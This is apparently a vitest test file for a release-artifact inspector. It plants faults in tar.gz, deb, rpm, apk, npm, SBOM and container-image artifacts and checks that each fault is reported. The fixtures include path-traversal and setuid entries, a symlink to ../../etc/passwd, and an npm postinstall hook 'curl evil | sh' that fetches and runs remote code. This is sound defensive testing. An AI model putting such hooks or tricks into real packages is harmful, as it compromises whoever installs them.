/** Faults planted in everything that a release consists of: each must be seen, and named with what was wrong. */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { apk } from '../../scripts/formats/apk.ts';
import { ar } from '../../scripts/formats/ar.ts';
import { deb, foldersOf } from '../../scripts/formats/deb.ts';
import { gzip } from '../../scripts/formats/gzip.ts';
import { ociLayout } from '../../scripts/formats/oci.ts';
import { rpm } from '../../scripts/formats/rpm.ts';
import { type Entry, tar, tarGz } from '../../scripts/formats/tar.ts';
import { billOfMaterials } from '../../scripts/packaging/bill.ts';
import { container } from '../../scripts/packaging/container.ts';
import { packageFiles, shareFiles } from '../../scripts/packaging/contents.ts';
import { debControl } from '../../scripts/packaging/debian.ts';
import { artifactFaults, launcherFaults } from '../../scripts/packaging/inspect.ts';
import type { InspectFacts } from '../../scripts/packaging/inspect-facts.ts';
import { imageFaults } from '../../scripts/packaging/inspect-image.ts';
import { launcherPackage, platformPackage } from '../../scripts/packaging/npm.ts';
import { rpmFacts } from '../../scripts/packaging/red-hat.ts';
import { facts } from './facts.ts';

const { name, version, time } = facts;
const executable = createHash('sha256').update(facts.executable).digest('hex');
const wanted = (architecture: string): InspectFacts => ({
  name,
  version,
  time,
  executable,
  node: '24.21.0',
  target: 'x86_64-unknown-linux-gnu',
  architecture,
  libc: 'glibc',
  glibc: '2.31',
  service: facts.about.service,
  hasManual: true,
  folder: 'demo',
  texts: ['LICENSE', 'README.md'],
  scope: '@demo',
});

/** What a fault changes: names to entries, before they are packed. */
type Change = (files: Map<string, Entry>) => void;
const other = Buffer.from('something else');
const replaced =
  (path: string, more: object): Change =>
  (files) => {
    files.set(path, { ...(files.get(path) as Entry), ...more } as Entry);
  };

function archiveEntries(change: Change): Entry[] {
  const share = shareFiles(facts);
  const entries: Entry[] = [
    { name: 'demo/', mode: 0o755 },
    { name: `demo/${name}`, mode: 0o755, data: facts.executable },
    { name: 'demo/LICENSE', mode: 0o644, data: Buffer.from('MIT') },
    { name: 'demo/README.md', mode: 0o644, data: Buffer.from('# demo') },
    ...foldersOf(share).map((folder) => ({ name: `demo${folder}/` as const, mode: 0o755 as const })),
    ...share.map(({ path, data }) => ({ name: `demo${path}`, mode: 0o644 as const, data })),
  ];
  const files = new Map(entries.map((entry) => [entry.name, entry]));
  change(files);
  return [...files.values()];
}

const archive = async (change: Change = () => {}): Promise<Buffer> => tarGz(archiveEntries(change), time);

/** The first header of that name, with other bytes at that place and the right sum again. */
function patched(bytes: Buffer, file: string, at: number, field: string): Buffer {
  const start = bytes.indexOf(Buffer.from(`${file}\0`));
  bytes.write(field, start + at, 'latin1');
  bytes.write('        ', start + 148, 'latin1');
  const sum = bytes.subarray(start, start + 512).reduce((total, byte) => total + byte, 0);
  bytes.write(`${sum.toString(8).padStart(6, '0')}\0 `, start + 148, 'latin1');
  return bytes;
}
const patchedArchive = (file: string, at: number, field: string) => async () =>
  gzip(
    patched(
      tar(
        archiveEntries(() => {}),
        time,
      ),
      file,
      at,
      field,
    ),
  );

const makeDeb = async (
  change: (files: Awaited<ReturnType<typeof packageFiles>>, control: ReturnType<typeof debControl>) => void = () => {},
) => {
  const control = debControl(facts, { architecture: 'amd64', glibc: '2.31' });
  const files = await packageFiles(facts, 'deb');
  change(files, control);
  return deb(control, files, time);
};
const makeRpm = async (
  change: (files: Awaited<ReturnType<typeof packageFiles>>, its: ReturnType<typeof rpmFacts>) => void = () => {},
) => {
  const its = rpmFacts(facts, { architecture: 'x86_64', glibc: '2.31' });
  const files = await packageFiles(facts, 'rpm');
  change(files, its);
  return rpm(its, files, time);
};
const makeApk = async (
  architecture: 'x86_64' | 'x86' = 'x86_64',
  change: (files: Awaited<ReturnType<typeof packageFiles>>) => void = () => {},
) => {
  const { summary, homepage: url, license, maintainer } = facts.about;
  const files = await packageFiles(facts, 'apk');
  change(files);
  return apk({ name, version: `${version}-r0`, architecture, summary, url, license, maintainer }, files, time);
};
const npmOf = (target: object = {}) =>
  platformPackage(facts, '@demo', { cpu: 'x64', libc: 'glibc', oldest: '2.31', ...target });
const billFacts = {
  name,
  version,
  time,
  target: 'x86_64-unknown-linux-gnu',
  license: 'MIT',
  executable: { sha256: executable },
  parts: [{ kind: 'runtime', name: 'node', version: '24.21.0', license: 'MIT', hash: undefined }],
} as const;
const billOf = async (more: object = {}) => Buffer.from(billOfMaterials({ ...billFacts, ...more }));
const architectures = { 'tar.gz': '', deb: 'amd64', rpm: 'x86_64', apk: 'x86_64', npm: 'x64', sbom: '' } as const;
type Kind = keyof typeof architectures;

const good: readonly (readonly [Kind, () => Promise<Buffer>])[] = [
  ['tar.gz', () => archive()],
  ['deb', () => makeDeb()],
  ['rpm', () => makeRpm()],
  ['apk', () => makeApk()],
  ['npm', () => npmOf()],
  ['sbom', () => billOf()],
];

test.each(good)('nothing is wrong with a good %s', async (kind, make) => {
  expect(artifactFaults(kind, await make(), wanted(architectures[kind]))).toEqual([]);
});

const settings = '/etc/default/demo-server';
const drop = <T extends { path: string }>(files: T[], path: string): void => {
  files.splice(
    files.findIndex((file) => file.path === path),
    1,
  );
};
const flipped = (bytes: Buffer, at: number): Buffer => {
  bytes[at] = (bytes[at] ?? 0) ^ 1;
  return bytes;
};

test.each<[Kind, string, () => Promise<Buffer>, string | RegExp]>([
  [
    'tar.gz',
    'the executable cannot be run',
    () => archive(replaced(`demo/${name}`, { mode: 0o644 })),
    'demo/demo-server must have the mode 755, got 644',
  ],
  [
    'tar.gz',
    'setuid',
    patchedArchive(`demo/${name}`, 100, '0004755\0'),
    'demo/demo-server must have the mode 755, got 4755',
  ],
  [
    'tar.gz',
    'a text that all may write',
    patchedArchive('demo/LICENSE', 100, '0000666\0'),
    'demo/LICENSE must have the mode 644, got 666',
  ],
  [
    'tar.gz',
    "somebody's file",
    patchedArchive('demo/LICENSE', 108, '0001750\0'),
    'demo/LICENSE must have the owner 0:0 root:root, got 1000:0 root:root',
  ],
  [
    'tar.gz',
    "somebody's name",
    patchedArchive('demo/LICENSE', 265, 'alice\0'),
    'demo/LICENSE must have the owner 0:0 root:root, got 0:0 alice:root',
  ],
  [
    'tar.gz',
    'another time',
    patchedArchive('demo/LICENSE', 136, '00000000000\0'),
    'demo/LICENSE must have the time 1700000000, got 0',
  ],
  [
    'tar.gz',
    'a symbolic link that leads out',
    async () =>
      gzip(
        patched(
          patched(
            tar(archiveEntries(replaced('demo/LICENSE', { data: Buffer.alloc(0) })), time),
            'demo/LICENSE',
            157,
            '../../etc/passwd\0',
          ),
          'demo/LICENSE',
          156,
          '2',
        ),
      ),
    'demo/LICENSE must be a file or a folder, got a symbolic link to ../../etc/passwd',
  ],
  [
    'tar.gz',
    'a device',
    patchedArchive('demo/LICENSE', 156, '3'),
    'demo/LICENSE must be a file or a folder, got type 3',
  ],
  [
    'tar.gz',
    'a path that leads out',
    () => archive((files) => files.set('../evil', { name: '../evil', mode: 0o644, data: other })),
    '../evil must not be there, got a file of 14 bytes',
  ],
  [
    'tar.gz',
    'an absolute path',
    () => archive((files) => files.set('/etc/x', { name: '/etc/x', mode: 0o644, data: other })),
    '/etc/x must not be there, got a file of 14 bytes',
  ],
  [
    'tar.gz',
    'a file more',
    () => archive((files) => files.set('demo/.env', { name: 'demo/.env', mode: 0o644, data: other })),
    'demo/.env must not be there, got a file of 14 bytes',
  ],
  [
    'tar.gz',
    'an empty folder more',
    () => archive((files) => files.set('demo/.git/', { name: 'demo/.git/', mode: 0o755 })),
    'demo/.git/ must not be there, got a folder of 0 bytes',
  ],
  [
    'tar.gz',
    'a file twice',
    () => archive((files) => files.set('again', { name: 'demo/LICENSE', mode: 0o644, data: other })),
    'demo/LICENSE must be there once, got it again',
  ],
  [
    'tar.gz',
    'no license',
    () => archive((files) => files.delete('demo/LICENSE')),
    'demo/LICENSE must be there, got no such file',
  ],
  [
    'tar.gz',
    'an empty license',
    () => archive(replaced('demo/LICENSE', { data: Buffer.alloc(0) })),
    'demo/LICENSE must not be empty, got 0 bytes',
  ],
  [
    'tar.gz',
    'no manual page',
    () => archive((files) => files.delete(`demo/share/man/man1/${name}.1`)),
    `demo/share/man/man1/${name}.1 must be there, got no such file`,
  ],
  [
    'tar.gz',
    'another executable',
    () => archive(replaced(`demo/${name}`, { data: other })),
    /^demo\/demo-server must have the SHA-256 [0-9a-f]{64}, got [0-9a-f]{64}$/,
  ],
  [
    'tar.gz',
    'bytes behind it',
    async () => Buffer.concat([await archive(), Buffer.from('more')]),
    /^must be a whole tar\.gz: gzip data must be whole: /,
  ],
  [
    'tar.gz',
    'zeros behind it',
    async () => Buffer.concat([await archive(), Buffer.alloc(4)]),
    'must be a whole tar.gz: nothing must follow the gzip data, got 4 bytes',
  ],
  [
    'tar.gz',
    'cut off',
    async () => (await archive()).subarray(0, -20),
    /^must be a whole tar\.gz: gzip data must be whole: /,
  ],
  [
    'tar.gz',
    'a flipped byte',
    async () => {
      const bytes = await archive();
      return flipped(bytes, bytes.length - 30);
    },
    /^must be a whole tar\.gz: /,
  ],
  [
    'tar.gz',
    'a time in the gzip header',
    async () => {
      const bytes = await archive();
      bytes.writeUInt32LE(1, 4);
      return bytes;
    },
    "must be a whole tar.gz: gzip's header must have no name, time or system (1f8b08000000000002ff), got 1f8b08000100000002ff",
  ],
  [
    'tar.gz',
    'packed by another program',
    async () =>
      gzipSync(
        tar(
          archiveEntries(() => {}),
          time,
        ),
      ),
    /^must be a whole tar\.gz: gzip's header must have no name, time or system/,
  ],
  [
    'deb',
    'another architecture',
    () => makeDeb((_, control) => Object.assign(control.fields, { Architecture: 'arm64' })),
    'must have the field Architecture: amd64, got arm64',
  ],
  [
    'deb',
    'another version',
    () => makeDeb((_, control) => Object.assign(control.fields, { Version: '1.2.4' })),
    'must have the field Version: 1.2.3, got 1.2.4',
  ],
  [
    'deb',
    'a C library that is too old',
    () => makeDeb((_, control) => Object.assign(control.fields, { Depends: 'libc6 (>= 2.17)' })),
    'must have the field Depends: libc6 (>= 2.31), got libc6 (>= 2.17)',
  ],
  [
    'deb',
    'a further dependency',
    () => makeDeb((_, control) => Object.assign(control.fields, { Depends: 'libc6 (>= 2.31), nodejs' })),
    'must have the field Depends: libc6 (>= 2.31), got libc6 (>= 2.31), nodejs',
  ],
  [
    'deb',
    'settings that an upgrade overwrites',
    () =>
      makeDeb((files) =>
        files.splice(
          files.findIndex(({ path }) => path === settings),
          1,
          { path: settings, mode: 0o644, data: other },
        ),
      ),
    `must name its settings ${settings} in conffiles, got nothing`,
  ],
  [
    'deb',
    'no settings',
    () => makeDeb((files) => drop(files, settings)),
    `${settings} must be there, got no such file`,
  ],
  [
    'deb',
    'no unit',
    () => makeDeb((files) => drop(files, '/lib/systemd/system/demo-server.service')),
    '/lib/systemd/system/demo-server.service must be there, got no such file',
  ],
  [
    'deb',
    'no socket unit',
    () => makeDeb((files) => drop(files, '/lib/systemd/system/demo-server.socket')),
    '/lib/systemd/system/demo-server.socket must be there, got no such file',
  ],
  [
    'deb',
    'a unit where systemd does not look',
    () =>
      makeDeb((files) => files.push({ path: '/usr/lib/systemd/system/demo-server.service', mode: 0o644, data: other })),
    '/usr/lib/systemd/system/demo-server.service must not be there, got a file of 14 bytes',
  ],
  [
    'deb',
    'a cron job',
    () => makeDeb((files) => files.push({ path: '/etc/cron.d/x', mode: 0o644, data: other })),
    '/etc/cron.d/x must not be there, got a file of 14 bytes',
  ],
  [
    'deb',
    'no script after its installation',
    () => makeDeb((_, control) => delete (control.scripts as Record<string, string>)['postinst']),
    './postinst must be there, got no such file',
  ],
  [
    'deb',
    'a script more',
    () => makeDeb((_, control) => Object.assign(control.scripts, { preinst: '#!/bin/sh\n' })),
    './preinst must not be there, got a file of 10 bytes',
  ],
  [
    'deb',
    'another executable',
    () => makeDeb((files) => files.splice(0, 1, { path: `/usr/bin/${name}`, mode: 0o755, data: other })),
    /^\/usr\/bin\/demo-server must have the SHA-256/,
  ],
  [
    'deb',
    'members in another order',
    async () =>
      ar(
        [
          { name: 'debian-binary', data: Buffer.from('2.0\n') },
          { name: 'data.tar.gz', data: other },
        ],
        time,
      ),
    'must have the members debian-binary control.tar.gz data.tar.gz, got debian-binary data.tar.gz',
  ],
  [
    'deb',
    'cut off',
    async () => (await makeDeb()).subarray(0, -100),
    /^must be a whole deb: data\.tar\.gz must be whole/,
  ],
  [
    'rpm',
    'another architecture',
    () => makeRpm((_, its) => Object.assign(its, { architecture: 'aarch64' })),
    'must have the architecture x86_64, got aarch64',
  ],
  [
    'rpm',
    'another version',
    () => makeRpm((_, its) => Object.assign(its, { version: '9' })),
    'must have the version 1.2.3, got 9',
  ],
  [
    'rpm',
    'a C library that is too old',
    () => makeRpm((_, its) => Object.assign(its, { requires: [['glibc', '2.17']] })),
    'must require glibc 2.31, got glibc 2.17',
  ],
  [
    'rpm',
    'no C library',
    () => makeRpm((_, its) => Object.assign(its, { requires: [] })),
    'must require glibc 2.31, got no glibc',
  ],
  [
    'rpm',
    'an executable that cannot be run',
    () => makeRpm((files) => Object.assign(files[0] ?? {}, { mode: 0o644 })),
    '/usr/bin/demo-server must have the mode 755, got 644',
  ],
  [
    'rpm',
    'setuid',
    () => makeRpm((files) => Object.assign(files[0] ?? {}, { mode: 0o4755 })),
    '/usr/bin/demo-server must have the mode 755, got 4755',
  ],
  [
    'rpm',
    'settings that an upgrade overwrites',
    () =>
      makeRpm((files) => Object.assign(files.find(({ isSettings }) => isSettings) ?? {}, { isSettings: undefined })),
    '/etc/sysconfig/demo-server must be kept as settings (config, noreplace), got the flags 0',
  ],
  [
    'rpm',
    'a file more',
    () => makeRpm((files) => files.push({ path: '/etc/profile.d/x.sh', mode: 0o644, data: other })),
    '/etc/profile.d/x.sh must not be there, got a file of 14 bytes',
  ],
  [
    'rpm',
    'a flipped byte of its header',
    async () => {
      const bytes = await makeRpm();
      return flipped(bytes, bytes.indexOf('HTTP server'));
    },
    /^must name the SHA-256 of its header, [0-9a-f]{64}, got [0-9a-f]{64}$/,
  ],
  [
    'rpm',
    'a flipped byte of its payload',
    async () => {
      const bytes = await makeRpm();
      return flipped(bytes, bytes.length - 40);
    },
    /^must be a whole rpm: /,
  ],
  ['rpm', 'cut off', async () => (await makeRpm()).subarray(0, 400), /^must be a whole rpm: /],
  ['apk', 'another architecture', () => makeApk('x86'), 'must say arch = x86_64, got x86'],
  [
    'apk',
    'a service script that cannot be run',
    () =>
      makeApk('x86_64', (files) =>
        Object.assign(files.find(({ path }) => path.startsWith('/etc/init.d')) ?? {}, { mode: 0o644 }),
      ),
    '/etc/init.d/demo-server must have the mode 755, got 644',
  ],
  [
    'apk',
    'other data than its control says',
    async () => {
      const [a, b] = await Promise.all([
        makeApk(),
        makeApk('x86_64', (files) => Object.assign(files[1] ?? {}, { data: other })),
      ]);
      const at = (bytes: Buffer) => bytes.indexOf(bytes.subarray(0, 10), 10);
      return Buffer.concat([a.subarray(0, at(a)), b.subarray(at(b))]);
    },
    /^must say datahash = [0-9a-f]{64}, got [0-9a-f]{64}$/,
  ],
  ['npm', 'another CPU', () => npmOf({ cpu: 'arm64' }), 'package.json must have the cpu ["x64"], got ["arm64"]'],
  [
    'npm',
    'another C library',
    () => npmOf({ libc: 'musl' }),
    'package.json must have the libc ["glibc"], got ["musl"]',
  ],
  [
    'npm',
    'a script at its installation',
    async () =>
      tarGz(
        [
          {
            name: 'package/package.json',
            mode: 0o644,
            data: Buffer.from('{"scripts":{"postinstall":"curl evil | sh"}}'),
          },
        ],
        time,
      ),
    'package.json must have the scripts nothing, got {"postinstall":"curl evil | sh"}',
  ],
  [
    'sbom',
    'another executable',
    () => billOf({ executable: { sha256: 'f'.repeat(64) } }),
    `must name the executable ${executable}, got ${'f'.repeat(64)}`,
  ],
  [
    'sbom',
    'another Node',
    () => billOf({ parts: [{ ...billFacts.parts[0], version: '24.0.0' }] }),
    'must name the Node 24.21.0, got 24.0.0',
  ],
  ['sbom', 'no Node', () => billOf({ parts: [] }), 'must name the Node 24.21.0, got nothing'],
  [
    'sbom',
    'the time of its making',
    () => billOf({ time: 1_800_000_000 }),
    'must name the time 2023-11-14T22:13:20Z, got 2027-01-15T08:00:00Z',
  ],
  ['sbom', 'another target', () => billOf({ target: 'x' }), 'must name the target x86_64-unknown-linux-gnu, got x'],
  [
    'sbom',
    'a part without a license',
    () =>
      billOf({ parts: [...billFacts.parts, { kind: 'npm', name: 'a', version: '1', license: '', hash: undefined }] }),
    'must name a license of a 1, got none',
  ],
  ['sbom', 'no JSON', async () => Buffer.from('<bom/>'), /^must be a whole sbom: /],
])('%s: %s', async (kind, _, make, fault) => {
  const faults = artifactFaults(kind, await make(), wanted(architectures[kind]));
  expect(faults).toContainEqual(typeof fault === 'string' ? fault : expect.stringMatching(fault));
});

describe('the launcher on npm', () => {
  const packages = ['@demo/linux-x64-gnu'];
  const make = () => launcherPackage(facts, '@demo', [{ cpu: 'x64', libc: 'glibc', oldest: '2.31' }]);
  test('nothing is wrong with a good one', async () =>
    expect(launcherFaults(await make(), { version, time }, packages)).toEqual([]));
  test('a package that it lacks, or of another version', async () => {
    expect(launcherFaults(await make(), { version, time }, [...packages, '@demo/linux-x64-musl'])).toEqual([
      'package.json must have the optionalDependencies {"@demo/linux-x64-gnu":"1.2.3","@demo/linux-x64-musl":"1.2.3"}, got {"@demo/linux-x64-gnu":"1.2.3"}',
    ]);
    expect(launcherFaults(await make(), { version: '2', time }, packages)).toContain(
      'package.json must have the version "2", got "1.2.3"',
    );
  });
});

describe('an image', () => {
  const platform = { os: 'linux', architecture: 'amd64' } as const;
  const its = {
    name,
    version,
    time,
    service: facts.about.service,
    healthcheck: ['check'],
    executables: new Map([['linux/amd64', executable]]),
  };
  const image = () =>
    container({ ...facts, platform, commit: 'c0ffee', bill: Buffer.from('{}'), healthcheck: ['check'] });
  const make = async (change: (made: ReturnType<typeof image>) => object = () => ({})) => {
    const made = image();
    return (await ociLayout([{ ...made, ...change(made) }], version, time)).tar;
  };
  const config = (more: object) => () => make(({ config: its }) => ({ config: { ...its, ...more } }));

  test('nothing is wrong with a good one', async () => expect(imageFaults(await make(), its)).toEqual([]));

  test.each<[string, () => Promise<Buffer>, string | RegExp]>([
    ['root', config({ user: '0:0' }), 'User of linux/amd64 must be "65534:65534", got "0:0"'],
    ['no user', config({ user: '' }), 'User of linux/amd64 must be "65534:65534", got ""'],
    [
      'a shell',
      config({ entrypoint: ['/bin/sh'] }),
      'Entrypoint of linux/amd64 must be ["/demo-server","serve"], got ["/bin/sh"]',
    ],
    [
      'another port',
      config({ ports: ['80/tcp'] }),
      'ExposedPorts of linux/amd64 must be {"8080/tcp":{}}, got {"80/tcp":{}}',
    ],
    [
      'no health check',
      config({ healthcheck: undefined }),
      'the health check of linux/amd64 must be ["CMD","/demo-server","check"], got nothing',
    ],
    ['another version', config({ labels: {} }), 'the version of linux/amd64 must be 1.2.3, got none'],
    [
      'another CPU',
      () => make(() => ({ platform: { os: 'linux', architecture: 'arm64' } })),
      'the platforms must be linux/amd64, got linux/arm64',
    ],
    [
      'a file more',
      () => make(({ files }) => ({ files: [...files, { path: 'bin/sh', mode: 0o755, data: other }] })),
      'bin/sh must not be there, got a file of 14 bytes (linux/amd64)',
    ],
    [
      'setuid',
      () => make(({ files }) => ({ files: files.map((file) => ({ ...file, mode: 0o4755 })) })),
      'demo-server must have the mode 755, got 4755 (linux/amd64)',
    ],
    [
      'another executable',
      () => make(({ files }) => ({ files: files.map((file) => ({ ...file, data: other })) })),
      /^demo-server must have the SHA-256 .* \(linux\/amd64\)$/,
    ],
    [
      'a blob that is not what its name says',
      async () => {
        const bytes = await make();
        const at = bytes.indexOf('"User":"65534');
        return flipped(bytes, at + 9);
      },
      /^blobs\/sha256\/[0-9a-f]{64} must be what its name says, got the SHA-256 [0-9a-f]{64}$/,
    ],
    [
      'no layer',
      async () => {
        const bytes = await make();
        return bytes.subarray(0, bytes.indexOf('blobs/'));
      },
      /^must be a whole image: index\.json must be there/,
    ],
  ])('%s', async (_, bad, fault) => {
    const faults = imageFaults(await bad(), its);
    expect(faults).toContainEqual(typeof fault === 'string' ? fault : expect.stringMatching(fault));
  });
});
